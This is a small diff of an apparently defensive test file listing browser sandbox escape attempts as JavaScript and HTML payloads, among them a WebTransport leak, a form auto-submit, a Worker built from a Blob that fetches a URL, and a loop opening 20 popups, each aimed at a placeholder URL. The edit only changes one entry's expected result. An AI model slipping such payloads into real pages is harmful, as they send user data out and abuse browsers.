@@ -57,7 +57,7 @@ ATTACKS: list[tuple[str, tuple[str, ...], str]] = [
         ),
     ),
     ("webtransport", OK, script("new WebTransport('https://127.0.0.1:$UDP').ready.then(leak)")),
-    ("form", OK, f"<form id=f action='{URL}/f' method=post></form><script>f.submit()</script>"),
+    ("form", ("ok", "timeout"), f"<form id=f action='{URL}/f' method=post></form><script>f.submit()</script>"),
     ("navigate", ("ok", "timeout"), script(f"location = '{URL}/n'")),
     ("popup", OK, script(f"for (let i = 0; i < 20; i++) open('{URL}/o' + i)")),
     ("worker", OK, script(f"new Worker(URL.createObjectURL(new Blob([\"fetch('{URL}/w')\"])))")),
